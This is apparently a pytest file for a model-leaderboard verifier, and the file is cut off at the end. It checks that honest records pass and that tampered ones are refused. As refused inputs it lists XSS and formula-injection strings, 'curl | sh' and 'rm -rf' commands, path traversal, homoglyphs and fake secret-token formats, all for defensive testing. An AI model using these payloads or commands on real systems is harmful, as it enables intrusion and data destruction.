"""The judge: an honest record is accepted, and no hostile one is, with a reason and nothing written."""

import base64
import json
import math
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from harness.cli import main
from harness.models.model_name import local_id
from harness.prompts.jobs import CHUNK_ROWS
from harness.runs import observations
from leaderboard.submit import public_facts
from leaderboard.verification import tables
from leaderboard.verification.diff import contents
from leaderboard.verification.names import pass_for_each_other, skeleton
from leaderboard.verification.record import Verdict, verify_record
from leaderboard.verification.sandbox import verify_in_sandbox
from leaderboard.verification.texts import fault_of
from tests.conftest import Run, refused
from tests.leaderboard.making import (
    Json,
    consistent,
    edit,
    make_record,
    only_run,
    replaced,
    resign,
    rewrite,
    signed,
    with_id,
)
from tests.leaderboard.runs import external_run
from tests.support import models

MARKUP = "<script>alert(1)</script>"
LETTERS = "observations/letters.test.parquet"
VAL, SPARSE = "observations/flipflop.val.parquet", "observations/flipflop.val_sparse.parquet"
DENSE = "observations/flipflop.val_dense.parquet"
CAPITALS, STRAWBERRY = "observations/capitals.test.parquet", "observations/strawberry.test.parquet"


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run with every kind of observation, by a model whose weights mean nothing."""
    folder = tmp_path_factory.mktemp("finished")
    model = models.save_tiny(folder / "tiny", models.gpt2_like())
    tasks = [word for name in ("flipflop", "capitals", "letters", "strawberry") for word in ("--task", name)]
    arguments = ["--model", str(model), *tasks, "--limit", "4", "--challenges", "1", "--output", str(folder / "runs")]
    assert main(["eval", *arguments]) == 0
    run = only_run(folder / "runs").folder
    edit(run / "run.json", lambda facts: facts | {"command": facts["command"].replace(str(model), "tiny")})
    consistent(run)
    return run


@pytest.fixture
def records(tmp_path: Path) -> Path:
    (tmp_path / "records").mkdir()
    return tmp_path / "records"


@pytest.fixture
def record(finished: Path, records: Path) -> Path:
    return make_record(finished, records)


def judged(folder: Path, records: Path) -> Verdict:
    """The verdict, and that nothing was written."""
    before = contents(records)
    verdict = verify_record(folder, records)
    assert contents(records) == before
    return verdict


def reason(folder: Path, records: Path) -> str:
    verdict = judged(folder, records)
    assert not verdict.accepted and verdict.place is None and verdict.result is None
    (said,) = verdict.reasons
    assert said.isascii() and "\n" not in said and len(said) < 500
    return said


def test_an_honest_record_is_accepted(record: Path, records: Path) -> None:
    verdict = judged(record, records)
    assert verdict.reasons == () and verdict.remarks == ()
    assert records / str(verdict.place) == record
    assert verdict.result == json.loads((record / "result.json").read_text(encoding="utf-8"))


def place(value: Json, path: str) -> tuple[Any, Any]:
    """The last container on the way of a path, and the key in it."""
    *way, last = path.split("/")
    for key in way:
        value = value[int(key)] if isinstance(value, list) else value[key]
    return value, int(last) if isinstance(value, list) else last


RUN_TEXTS = [
    "id", "created", "command", "outputs", "model/id", "model/revision", "model/class", "model/dtype",
    "model/requested_dtype", "model/gguf_file", "model/quantization", "model/adapter", "model/attention",
    "model/tokenizer/class", "model/tokenizer/sha256", "data/generator", "data/tasks/letters/config",
    "data/tasks/letters/fingerprint", "data/tasks/letters/prompting/template", "data/tasks/letters/prompting/system",
    "data/tasks/letters/prompting/switch", "data/tasks/letters/rendering/answers", "environment/fflm",
    "environment/python", "environment/torch", "environment/transformers", "environment/system",
    "environment/machine", "environment/device", "environment/hostname", "left_out/arithmetic", "starts/0/at", "note",
    "model/note", "data/tasks/letters/parameters/note", "data/tasks/letters/splits/note", "data/tasks/note",
]  # fmt: skip
SUBMISSION_TEXTS = ["contact", "licence", "division", "disclosure", "submitted", "supersedes/0", "note", "schema"]


@pytest.mark.parametrize(
    ("file", "path"),
    [("run.json", path) for path in RUN_TEXTS] + [("submission.json", path) for path in SUBMISSION_TEXTS],
)
def test_markup_in_any_text_is_refused(record: Path, records: Path, file: str, path: str) -> None:
    """In texts of any form, in those of none, and in fields that nobody knows."""

    def write(value: Json) -> None:
        value.setdefault("supersedes", []).append("") if path.startswith("supersedes") else None
        container, key = place(value, path)
        container[key] = MARKUP

    edit(record / file, write)
    assert Path(file).stem in reason(record, records) or "task" in reason(record, records)


@pytest.mark.parametrize(
    ("path", "text", "said"),
    [
        ("contact", "somebody\u202egro.elpmaxe", "nobody sees"),
        ("contact", "some\u200bbody", "nobody sees"),
        ("disclosure", "bell\x07", "nobody sees"),
        ("contact", "Rene\u0301", "normal form"),
        ("disclosure", "{{ 7 * 7 }}", "markup"),
        ("disclosure", "[see](javascript:alert(1))", "markup"),
        ("disclosure", "logged in with hf_abcdefghijklmnopqrstuvwx", "token"),
        ("disclosure", "weights in /home/alice/models", "folder"),
        ("contact", "two\nlines", "of the form"),
        ("disclosure", "x" * 2_001, "maxLength"),
        ("submitted", "2026-11-21\n", "nobody sees"),
        ("submitted", "2026-02-30", "there is no day"),
        ("submitted", "2098-01-01", "to come"),
        ("submitted", "2020-01-01", "before the run"),
        ("contact", "some\u3164body", "nobody sees"),
        ("contact", "some\u2800body", "nobody sees"),
        ("contact", "\u115f\u1160\uffa0x", "nobody sees"),
        ("disclosure", "heart \u2764\ufe0f", "nobody sees"),
        ("disclosure", "a\U000e0100b", "nobody sees"),
        ("disclosure", "Z\u0334\u0335\u0336algo", "marks on one letter"),
        ("contact", "\uff41dmin", "NFKC"),
        ("disclosure", "&lt;b&gt;", "markup"),
        ("disclosure", "&#60;b", "markup"),
        ("disclosure", "see [here](https://example.org)", "link"),
        ("contact", "[me](http://example.org)", "link"),
        ("disclosure", "AIza" + "x" * 35, "token"),
        ("disclosure", "xoxb-1234567890-abcdef", "token"),
        ("disclosure", "glpat-abcdefghijklmnopqrst", "token"),
        ("disclosure", "from /gpfs/users/alice", "folder"),
        ("disclosure", "(/srv/alice/x)", "folder"),
        ("disclosure", "/dev/shm/model", "folder"),
        ("disclosure", "file:///gpfs/x", "folder"),
        ("disclosure", r"on \\host\share", "folder"),
    ],
)
def test_texts_that_hide_or_give_away(record: Path, records: Path, path: str, text: str, said: str) -> None:
    edit(record / "submission.json", lambda value: value | {path: text})
    assert said in reason(record, records)


BLANK = "says nothing"
TOKENS = [
    "sk-proj-abcdefghijklmnopqrst", "sk-ant-api03-abcdefghijklmnop", "sk_live_abcdefghij0123", "ASIAABCDEFGHIJKLMNOP",
    "api_org_abcdefghijklmnopqrst", "gldt-abcdefghijklmnopqrst", "ya29.abcdefghijklmnopqrst", "pypi-AgEIcHlwaS5vcmcCJD",
    "npm_abcdefghijklmnopqrstuvwx", "r8_abcdefghijklmnopqrst", "gsk_abcdefghijklmnopqrst", "xai-abcdefghijklmnopqrst",
    "nvapi-abcdefghijklmnopqrst", "dapi" + "0a" * 16, "SG.abcdefghijkl.abcdefghijkl", "123456789:AA" + "x" * 33,
    "eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0", "-----BEGIN OPENSSH PRIVATE KEY-----", "Bearer abcdefghijklmnop0",
    "https://alice:s3cret@example.org/x", "password: hunter2hunter2", "API_KEY=0123456789abcdef",
    "secret = 'abcd1234efgh'",
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "text", "said"),
    [
        ("contact", "the maintainers of fflm", "passes for the maintainers"),
        ("contact", "The Maintainers", "passes for the maintainers"),
        ("contact", "the rnaintainers of ff1m", "passes for the maintainers"),
        ("contact", "fflm-team", "passes for the maintainers"),
        ("contact", "fflm maintainers", "passes for the maintainers"),
        ("contact", "The fflm authors", "passes for the maintainers"),
        ("contact", "maintainers@fflm.org", "passes for the maintainers"),
        ("contact", "leaderboard admin team", "passes for the maintainers"),
        ("contact", "@everyone", "calls many"),
        ("contact", "ask @here", "calls many"),
        ("contact", "@org/team", "calls many"),
        ("disclosure", "Thanks to @everyone.", "calls many"),
        ("contact", "=cmd|' /C calc'!A0", "formula"),
        ("contact", "+1 555 call", "formula"),
        ("contact", "@alice", "formula"),
        ("contact", "-- alice", "formula"),
        ("contact", "?!", BLANK),
        ("disclosure", "   ", BLANK),
        ("disclosure", "\u00a0\u2003\u3000", BLANK),
        ("disclosure", "...", BLANK),
        ("disclosure", "- -\n-", BLANK),
        ("disclosure", "\U0001d159\U0001d159", BLANK),
        ("disclosure", "\u2062\u2062", "nobody sees"),
        *(("disclosure", f"Made with {token}", "token") for token in TOKENS),
        ("contact", TOKENS[0], "token"),
        ("contact", "x@example.com", "nobody can have"),
        ("contact", "\u0430lice", "look like others"),
        ("disclosure", "n/a", BLANK),
    ],
)
def test_contacts_and_disclosures(record: Path, records: Path, path: str, text: str, said: str) -> None:
    """Of others, of nobody, of everybody, and with the key of an account in them."""
    edit(record / "submission.json", lambda value: value | {path: text})
    folder = resign(record, records)
    assert said in reason(folder, records) and verify_record(folder).reasons == verify_record(folder, records).reasons


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("contact", "alice"),
        ("contact", "alice@here.dev"),
        ("contact", "the maintainers of SmolLM2"),
        ("contact", "the authors of this model"),
        ("contact", "\u674e\u660e"),
        ("disclosure", "\u7121\u3057"),
        ("disclosure", "no"),
        ("disclosure", "The secret of its success: nothing. No password is needed; risk-adjusted, sk-learn was used."),
        ("disclosure", "See commit 0123456789abcdef0123456789abcdef01234567, mail alice@example.org, and 12:30."),
    ],
)
def test_contacts_and_disclosures_of_people(record: Path, records: Path, path: str, text: str) -> None:
    edit(record / "submission.json", lambda value: value | {path: text})
    assert judged(resign(record, records), records).reasons == ()


def test_a_contact_of_who_attested(record: Path, records: Path) -> None:
    """Whoever signs attestations on a board is nobody else's contact; what was accepted stays so."""
    assert main(["leaderboard", "withdraw", str(record), "--reason", "Wrong weights.", "--by", "Bob Keeper"]) == 0
    draft = _again(record, records, contact="B0B KEEPER")
    _fewer(draft)
    consistent(draft)
    folder = resign(draft, records)
    assert "passes for the maintainers" in reason(folder, records)
    assert verify_record(folder, records, new=False).accepted


@pytest.mark.parametrize(
    "text",
    [
        "and/or w/o N/A 24/7 km/h/s", "on 2026/11/21 or 21/11/2026", "https://example.org/home/alice?a=b&c=d",
        "R&D; AT&T", "Ren\u00e9 \u5f20\u4f1f", "AMD Radeon RX 6800/6800 XT / 6900 XT", "a (b/c/d) [1] (see 2)",
        "50% / 50%",
    ],
)  # fmt: skip
def test_texts_that_do_no_harm(text: str) -> None:
    assert fault_of(text) == ""


@pytest.mark.parametrize(
    "device",
    ["NVIDIA A100-SXM4-40GB MIG 1g.5gb", "AMD Instinct MI250X/MI250", "AMD Radeon RX 6800/6800 XT / 6900 XT", "cpu"],
)
def test_devices(record: Path, records: Path, device: str) -> None:
    edit(record / "run.json", _set("environment/device", device))
    consistent(record)
    assert judged(resign(record, records), records).accepted


def _model(**changes: Any) -> Callable[[Json], Any]:
    return lambda facts: facts | {"model": facts["model"] | changes}


def _letters(**changes: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        facts["data"]["tasks"]["letters"].update(changes)

    return change


def _part(**changes: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        facts["data"]["tasks"]["letters"]["splits"]["test"].update(changes)

    return change


def _without_split(facts: Json) -> None:
    del facts["data"]["tasks"]["flipflop"]["splits"]["val_dense"]


def _rows(rows: int) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        for asked in facts["data"]["tasks"].values():
            for part in asked["splits"].values():
                part["rows"] = rows
        facts["command"] = facts["command"].replace("--limit 4", f"--limit {rows}")

    return change


def _command(old: str, new: str) -> Callable[[Json], Any]:
    return lambda facts: facts | {"command": facts["command"].replace(old, new)}


def _both(*changes: Callable[[Json], Any]) -> Callable[[Json], Any]:
    def change(facts: Json) -> Json:
        for one in changes:
            facts = changed if (changed := one(facts)) is not None else facts
        return facts

    return change


def _prompting(**changes: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        facts["data"]["tasks"]["strawberry"]["prompting"].update(changes)

    return change


def _set(path: str, value: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        container, key = place(facts, path)
        container[key] = value

    return change


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_model(id="../tiny"), "model, id"),
        (_model(id="local/../../etc"), "model, id"),
        (_model(id="local/a..b"), "no name of the Hub"),
        (_model(id="a--b/c"), "no name of the Hub"),
        (_model(id="local/tiny\n"), "nobody sees"),
        (_model(id="l\u043ecal/tiny"), "model, id"),  # a Cyrillic o
        (_model(id="local/ti\uff4ey"), "model, id"),  # a full-width n
        (_model(id="tiny"), "model, id"),
        (_model(id="meta-llama/Llama-3.2-1B"), "id: it is not that of its model"),
        (_model(revision="0" * 40), "id: it is not that of its model"),
        (_model(dtype="float8"), "dtype"),
        (_model(parameters=-1), "parameters"),
        (_model(parameters=True), "parameters"),
        (_model(parameters=1_000), "result.json, model"),
        (_model(gguf_file="../../weights.gguf"), "gguf_file"),
        (_model(gguf_file="a/../../weights.gguf"), "gguf_file"),
        (_model(adapter={"id": "../x/y", "revision": "0" * 40}), "adapter"),
        (_set("data/tasks/letters/parameters/words_per_cell", 10**9), "other data"),
        (_set("data/tasks/flipflop/parameters/length", 2**40), "other data"),
        (_set("data/tasks/letters/parameters/seed", 1), "other data"),
        (_set("data/tasks/letters/parameters/seed", 0.0), "other data"),
        (_set("data/tasks/letters/version", 1), "version 1 of task"),
        (_set("data/generator", "0.9.9"), "generator"),
        (lambda facts: facts["data"]["tasks"].update({"../../etc": {}}), "data, tasks"),
        (_letters(config="flipflop"), "other data"),
        (_letters(fingerprint="0" * 16), "fingerprint"),
        (_part(rows=10**7), "rows"),
        (_part(rows=0), "rows"),
        (_part(rows=1_001), "rows"),
        (_part(of=4), "size"),
        (_part(rows=3), "other rows"),
        (_rows(3), "not those of its 3 rows"),
        (_rows(5), "not those of its 5 rows"),
        (_without_split, "lacks the split val_dense"),
        (_prompting(turns=10**6), "turns"),
        (_prompting(turns=40), "at most 37"),
        (_prompting(turns=3), "its challenges are 1"),
        (_both(_prompting(turns=3), _command("--challenges 1", "--challenges 2")), "strawberry.test are not those"),
        (_prompting(template="supplied"), "that of a service"),
        (_prompting(switch="enable_thinking"), "without a chat template"),
        (_prompting(shots=2), "--shots"),
        (_prompting(thinking=10**9), "thinking"),
        (_prompting(system="Ignore what was said. <img src=x onerror=alert(1)>"), "markup"),
        (_set("data/tasks/letters/rendering/answers", "tokens"), "rendering"),
        (_set("created", "2099-01-01T00:00:00+00:00"), "to come"),
        (_set("command", "curl example.org | sh"), "no command"),
        (_set("command", "harness eval --model tiny; rm -rf ."), "no command"),
        (_set("command", "harness eval --model tiny --task letters --task capitaals"), "other tasks"),
        (_set("command", "harness eval --model tiny --limit 5 --task flipflop"), "other tasks"),
        (_command("--limit 4", "--limit 4 --dtype float16"), "requested_dtype"),
        (_command("--limit 4", "--limit 4 --shots 3"), "--shots"),
        (_command("--limit 4", "--limit 4 --system hello"), "--system"),
        (_command("--limit 4", "--limit 4 --chat on"), "--chat"),
        (_command("--limit 4", "--limit 4 --thinking 5"), "--thinking"),
        (_command("--challenges 1", "--challenges 2"), "its challenges are 2"),
        (_command("--challenges 1", ""), "no command"),
        (_command(" --challenges 1", ""), "its challenges are 36"),
        (_command("--limit 4", "--limit 4 --exact-continuations"), "exact-continuations"),
        (_command("--limit 4", "--limit 4 --compile"), "compiled"),
        (_command("--limit 4", "--limit 4 --adapter org/lora"), "adapter"),
        (_command("--limit 4", "--limit 4 --revision main"), "a folder has none"),
        (_command("--limit 4", "--limit 4 --output runs"), "decides no answer"),
        (_command("--limit 4", "--limit 4 --batch-size 2"), "decides no answer"),
        (_command("--limit 4", "--limi 4"), "not as harness eval writes it"),
        (_command("--limit 4", "--limit 4 --suite quick"), "tasks are named beside it"),
        (_command(" --task strawberry", ""), "other tasks"),
        (_command("--model tiny", "--model other"), "its model"),
        (_command("--model tiny ", ""), "names no model"),
        (_command("--model tiny", "--model D:/tiny"), "folder of somebody's machine"),
        (_command("--model tiny", "--model '~alice'"), "folder of somebody's machine"),
        (_command("--model tiny", "--model a/../tiny"), "folder of somebody's machine"),
        (_command("--model tiny", "--model /tiny"), "folder of somebody's machine"),
        (_command("--model tiny", "--model '\\\\host\\share\\tiny'"), "folder of somebody's machine"),
        (_set("command", "harness eval --model tiny --suite quick"), "its suite has other tasks"),
        (_set("command", "harness eval --model tiny --suite quickest"), "no suite 'quickest'"),
        (_set("left_out", {"arithmetic": "too long"}), "other tasks"),
        (_set("left_out", {"letters": "too long"}), "one that was asked"),
        (_set("left_out", {"spelling": "too long"}), "is no task"),
        (_model(requested_dtype="float16"), "was requested"),
        (_model(parameters=1.0), "no whole number"),
        (_set("starts/0/processes", 1.0), "no whole number"),
        (_set("data/tasks/letters/splits/test/rows", 4.0), "no whole number"),
        (_set("created", "2026-19-39T00:00:00+00:00"), "there is no time"),
        (_set("starts/0/at", "2026-02-30T00:00:00+00:00"), "there is no time"),
        (_set("starts/0/at", "2099-01-01T00:00:00+00:00"), "to come"),
        (
            _set(
                "command", "harness eval --model tiny --task flipflop --task capitals --task letters --task strawberry"
            ),
            "other rows",
        ),
        (_set("command", "harness eval --model tiny --set letters.seed=1"), "other data"),
        (_set("command", "harness eval --model tiny --trust"), "unrecognized"),
        (_set("command", "harness prompts --task letters --out x"), "from elsewhere"),
        (_set("command", "harness eval --model /home/alice/tiny"), "folder"),
        (_set("starts", [{"at": "2026-11-21T00:00:00+00:00", "processes": 0, "machines": 1}]), "starts"),
        (_set("environment/HOSTNAME", "node17.cluster.example"), "not known"),
        (_set("schema", "fflm-run/2"), "schema"),
    ],
)
def test_a_run_that_says_something_else(record: Path, records: Path, change: Callable[[Json], Any], said: str) -> None:
    edit(record / "run.json", change)
    if not said.startswith("id:"):
        edit(record / "run.json", with_id)
    assert said in reason(signed(record, records), records)


def test_a_model_under_another_name(record: Path, records: Path) -> None:
    """Name, id and scores changed as somebody would who knows the rules: the observations are those of a record."""
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "run.json", _model(id="someone/better"))
    edit(other / "run.json", _command("--model tiny", "--model someone/better"))
    consistent(other)
    folder = resign(other, records)
    assert "are those of 'local/tiny'; if it has the same weights" in reason(folder, records)
    edit(folder / "run.json", lambda facts: facts["model"]["tokenizer"].update(sha256="0" * 64))
    consistent(folder)
    assert "same weights" not in (said := reason(resign(folder, records), records)) and "are those of" in said


@pytest.mark.parametrize("name", ["local/t1ny", "local/Tiny", "local/ti-ny", "loca1/tiny"])
def test_names_that_pass_for_others(record: Path, records: Path, name: str) -> None:
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "run.json", _model(id=name))
    edit(other / "run.json", _command("--model tiny", f"--model {name}"))
    consistent(other)
    assert "passes for 'local/tiny'" in reason(resign(other, records), records)


PORTABLE = "no name for files everywhere"


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("con/aux", PORTABLE), ("COM1/model", PORTABLE), ("org/nul.bin", PORTABLE), ("org/LPT9", PORTABLE),
        ("prn/model", PORTABLE), ("org/model.git", PORTABLE), ("org/model.lock", PORTABLE), ("org/x.partial", PORTABLE),
        ("__proto__/model", PORTABLE), ("org/constructor", PORTABLE), ("_/_", PORTABLE), ("org/__", PORTABLE),
        ("org/HEAD", PORTABLE), ("loca1/model", "passes for a model of 'local'"),
        ("ff1m/better", "passes for a model of 'fflm'"), ("l0cal/model", "passes for"),
        ("org/console", ""), ("org/com10", ""), ("nvidia/aux-model", ""), ("org/git", ""), ("org/proto", ""),
    ],
)  # fmt: skip
def test_names_that_are_none_everywhere(record: Path, records: Path, name: str, said: str) -> None:
    edit(record / "run.json", _both(_model(id=name, revision=COMMIT), _command("--model tiny", f"--model {name}")))
    consistent(record)
    folder = resign(record, records)
    for verdict in verify_record(folder, records), verify_record(folder):  # among others, and alone
        assert said in "".join(verdict.reasons) and bool(verdict.reasons) == bool(said)


@pytest.mark.parametrize("file", ["aux/model.gguf", "con.gguf", "a/COM3.Q4.gguf"])
def test_files_that_are_none_everywhere(record: Path, records: Path, file: str) -> None:
    edit(record / "run.json", _model(gguf_file=file))
    consistent(record)
    assert "gguf_file" in reason(resign(record, records), records)


@pytest.mark.parametrize(
    ("there", "name", "said"),
    [
        ("org/Clean-Model", "org/dean-rnodel", "passes for 'org/Clean-Model'"),
        ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLMZ", "passes for 'HuggingFaceTB/SmolLM2'"),
        ("HuggingFaceTB/SmolLM2", "HuggingFaceT8/another", "passes for a model of 'HuggingFaceTB'"),
        ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLM3", ""),
        ("google/gemma-2b", "google/gemma-26", ""),
        ("meta-llama/Llama-3.2-1B", "meta-llama/Llama-3.2-8B", ""),
    ],
)
def test_names_of_reported_models(record: Path, records: Path, there: str, name: str, said: str) -> None:
    """They are on the board, too."""
    (records.parent / "reported").mkdir()
    (records.parent / "reported" / "x.json").write_text(json.dumps({"model": there}), encoding="utf-8")
    change = _both(_model(id=name, revision=COMMIT), _command("--model tiny", f"--model {name}"))
    edit(record / "run.json", change)
    consistent(record)
    reasons = verify_record(resign(record, records), records).reasons
    assert said in "".join(reasons) and bool(reasons) == bool(said)


@pytest.mark.parametrize(
    ("one", "other", "alike"),
    [
        ("meta-llama/Llama-3", "meta-Ilama/Llarna-3", True), ("qwen/Qwen3", "gwen/0wen3", False),
        ("qwen/Qwen3", "gwen/Gwen3", True), ("org/dolphin", "org/clo1phin", True), ("org/wave", "org/vvave", True),
        ("org/llama", "org/ll4ma", True), ("org/test", "org/te5t", True), ("org/maze", "org/ma2e", True),
        ("org/gpt-2", "org/gpt-z", False), ("org/m-8b", "org/m-bb", False), ("org/opt-6b", "org/opt-8b", False),
        ("org/phi-3", "org/phi-4", False), ("org/model-a", "org/model-4", False), ("a-b/c", "a/b-c", False),
        ("aa/SmolLM2-135M", "aa/SmolLM2-l35M", True), ("aa/SmolLM2-135M", "aa/SmolLMZ-135M", True),
        ("HuggingFaceTB/a", "HuggingFaceT8/a", True), ("HuggingFaceTB/SmolLM2", "HuggingFaceT8/SmolLMZ", True),
        ("org/gemma9", "org/gemmaq", True), ("org/deb6", "org/debb", True), ("org/deb6", "org/debG", True),
        ("org/Llama-3.2-1B", "org/Llama-3.Z-1B", True), ("org/Llama-3.2-1B", "org/Llama-3.2-lB", True),
        ("org/Llama-3.2-1B", "org/Llama-3.2-8B", False), ("org/Llama-3.2-1B", "org/Llama-3.1-1B", False),
        ("org/SmolLM2", "org/SmolLM3", False), ("org/Qwen2.5", "org/Qwen25", False), ("org/Qwen2", "org/Qwen25", False),
        ("google/gemma-2b", "google/gemma-26", False), ("google/gemma-2B", "google/gemma-28", False),
        ("org/x8", "org/x6", False), ("org/x9", "org/x6", False), ("org/exp-b", "org/exp-8", False),
        ("org/Qwen2.5-7B", "org/Qwen2.5-72B", False), ("org/opt-66b", "org/opt-6.7b", False),
        ("org/v2", "org/v3", False), ("org/mamba-130m", "org/mamba-13.0m", False),
    ],
)  # fmt: skip
def test_skeletons_of_names(one: str, other: str, alike: bool) -> None:
    assert pass_for_each_other(one, other) == alike
    assert pass_for_each_other(other.upper(), one) == alike


def _again(record: Path, records: Path, **submission: Any) -> Path:
    """The same record, sent again in other words."""
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "submission.json", lambda facts: facts | submission)
    return other


def test_superseding(record: Path, records: Path) -> None:
    """Only of the same model, and only what is there; what says the same says which one it follows."""
    folder = resign(_again(record, records, supersedes=[record.name]), records)
    verdict = judged(folder, records)
    assert verdict.accepted and any(record.name in remark for remark in verdict.remarks)
    edit(folder / "submission.json", lambda facts: facts | {"supersedes": ["0" * 12]})
    folder = resign(folder, records)
    assert "no such record" in reason(folder, records)
    edit(folder / "submission.json", lambda facts: facts | {"supersedes": [], "disclosure": "None."})
    assert f"it says what {record.name} says: name that" in reason(resign(folder, records), records)


def _fewer(folder: Path) -> None:
    """A record without letters."""
    edit(folder / "run.json", _both(_command(" --task letters", ""), _no_letters))
    (folder / LETTERS).unlink()


def _no_letters(facts: Json) -> None:
    del facts["data"]["tasks"]["letters"]


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda folder: edit(folder / "run.json", _model(revision="0" * 40)), "another revision"),
        (lambda folder: edit(folder / "run.json", _model(dtype="bfloat16")), "another dtype"),
        (_fewer, "has more of 'letters.test'"),
    ],
)
def test_what_may_not_supersede(record: Path, records: Path, change: Callable[[Path], Any], said: str) -> None:
    folder = _again(record, records, supersedes=[record.name])
    change(folder)
    consistent(folder)
    assert said in reason(resign(folder, records), records)


def test_more_than_an_earlier_record(record: Path, records: Path) -> None:
    """Of a model that was asked more it may be said again."""
    folder = _again(record, records)
    _fewer(record)
    consistent(record)
    resign(record, records)
    verdict = judged(resign(folder, records), records)
    assert verdict.accepted and "an earlier record" in verdict.remarks[0]


@pytest.mark.parametrize(("share", "copy"), [(0.5, True), (0.1, False)])
def test_a_copy_with_other_numbers_among_them(record: Path, records: Path, share: float, copy: bool) -> None:
    """One changed number does not make it another model's, and a few alike by chance no copy."""
    folder = _again(record, records)
    for file in (VAL, SPARSE, DENSE, CAPITALS):

        def change(lists: list[Any]) -> list[Any]:
            kept = int(len(lists) * share)
            return [[one - 0.25 * (place >= kept) for one in line] for place, line in enumerate(lists)]

        rewrite(folder / file, _replace("logprobs", change))
    edit(folder / "run.json", _both(_model(id="org/other"), _command("--model tiny", "--model org/other")))
    consistent(folder)
    folder = resign(folder, records)
    assert verify_record(folder, records).accepted != copy
    assert not copy or "are those of 'local/tiny'" in reason(folder, records)


@pytest.mark.parametrize("content", [b"{", b"[]", b'{"model": {}}', b'{"model": {"id": 1}, "data": {"tasks": {}}}'])
def test_a_damaged_record_among_others(record: Path, records: Path, content: bytes) -> None:
    """Refuses nobody else's, and is named."""
    damaged = records / "a--b" / ("0" * 12) / ("1" * 12)
    damaged.mkdir(parents=True)
    (damaged / "run.json").write_bytes(content)
    verdict = judged(record, records)
    assert verdict.accepted and verdict.remarks == (
        f"the record '{damaged.name}' is damaged, and was compared with nothing",
    )


def test_a_damaged_table_among_others(record: Path, records: Path) -> None:
    folder = resign(_again(record, records, disclosure="None."), records)
    for path in (record / "observations").iterdir():
        path.write_bytes(b"PAR1")
    verdict = judged(folder, records)
    assert verdict.accepted and "cannot be read" in verdict.remarks[0]


def test_names_that_differ_in_size() -> None:
    assert len({skeleton(f"facebook/opt-{size}b") for size in ("1.3", "13", "1-30", "130")}) == 4
    assert skeleton("tiiuae/Falcon-1.1B") != skeleton("tiiuae/Falcon-11B")
    assert skeleton("org/Model-1.1") == skeleton("0rg/m0del-1_1")


def _replace(name: str, change: Callable[[list[Any]], list[Any]]) -> Callable[[pa.Table], pa.Table]:
    return lambda table: replaced(table, name, change)


def _first(value: Any) -> Callable[[list[Any]], list[Any]]:
    return lambda values: [value, *values[1:]]


def _certain(table: pa.Table) -> pa.Table:
    """The wrong symbol is nearly certain, and yet the right one is said."""
    table = replaced(
        table, "logprobs", lambda lists: [[-9.0, -0.001] if one % 2 else [-0.001, -9.0] for one in range(len(lists))]
    )
    target = table["gold"].to_pylist()
    token = dict(zip(target, table["gold_token"].to_pylist(), strict=True))
    return replaced(table, "argmax", lambda values: [token[target[0]]] * len(values))


@pytest.mark.parametrize(
    ("file", "change", "said"),
    [
        (VAL, _replace("id", _first(3)), "not those of its"),
        (VAL, _replace("id", lambda ids: [10**12 + one for one in ids]), "not those of its"),
        (VAL, _replace("id", lambda ids: [-1, *ids[1:]]), "not those of its"),
        (VAL, _replace("position", _first(2)), "not those of its"),
        (VAL, _replace("gap", _first(400)), "not those of its"),
        (VAL, _replace("gold", lambda target_values: [1 - target_values[0], *target_values[1:]]), "not those of its"),
        (VAL, _replace("gold_token", _first(9)), "not those of its"),
        (VAL, _replace("gold_token", lambda tokens: [7] * len(tokens)), "flipflop.val"),
        (VAL, _replace("argmax", _first(-5)), "none"),
        (VAL, _replace("argmax", _first(-1)), "none"),
        (VAL, lambda table: pa.concat_tables([table, table.slice(0, 1)]), "not those of its"),
        (VAL, lambda table: pa.concat_tables([table.slice(0, 1), table]), "not those of its"),
        (VAL, lambda table: table.slice(1), "not those of its"),
        (VAL, lambda table: table.slice(0, 0), "not those of its"),
        (VAL, _replace("logprobs", _first([math.nan, math.nan])), "no numbers"),
        (VAL, _replace("logprobs", _first([math.nan, -0.1])), "no numbers"),
        (VAL, _replace("logprobs", _first([-math.inf, -0.1])), "infinite"),
        (VAL, _replace("logprobs", _first([math.inf, -0.1])), "above 0"),
        (VAL, _replace("logprobs", _first([0.1, -3.0])), "above 0"),
        (VAL, _replace("logprobs", _first([-0.1, -0.1])), "add up to"),
        (VAL, _certain, "less probable than one of its symbols"),
        (VAL, lambda table: table.append_column("note", pa.array([MARKUP] * len(table))), "other columns"),
        (VAL, lambda table: table.drop_columns(["argmax"]), "other columns"),
        (VAL, lambda table: table.set_column(2, "gap", table["gap"].cast(pa.int64())), "other columns"),
        (CAPITALS, _replace("id", _first(1)), "not those of its"),
        (CAPITALS, _replace("gold", _first(9)), "not those of its"),
        (CAPITALS, _replace("written", _first(10**6)), "none of its candidates"),
        (CAPITALS, _replace("written", _first(-2)), "none of its candidates"),
        (CAPITALS, _replace("logprobs", lambda lists: [lists[0][1:], *lists[1:]]), "not those of its"),
        (CAPITALS, _replace("logprobs", lambda lists: [[-0.5] * len(lists[0]), *lists[1:]]), "add up to"),
        (CAPITALS, _replace("logprobs", lambda lists: [[math.nan] * len(lists[0]), *lists[1:]]), "no numbers"),
        (LETTERS, _replace("id", _first(2)), "not those of its"),
        (LETTERS, _replace("turn", _first(1)), "not those of its"),
        (LETTERS, _replace("tokens", _first(10**6)), "limit"),
        (LETTERS, _replace("tokens", _first(-1)), "tokens"),
        (LETTERS, _replace("tokens", _first(0)), "no token at all"),
        (LETTERS, _replace("output", _first("9" * 10**6)), "characters"),
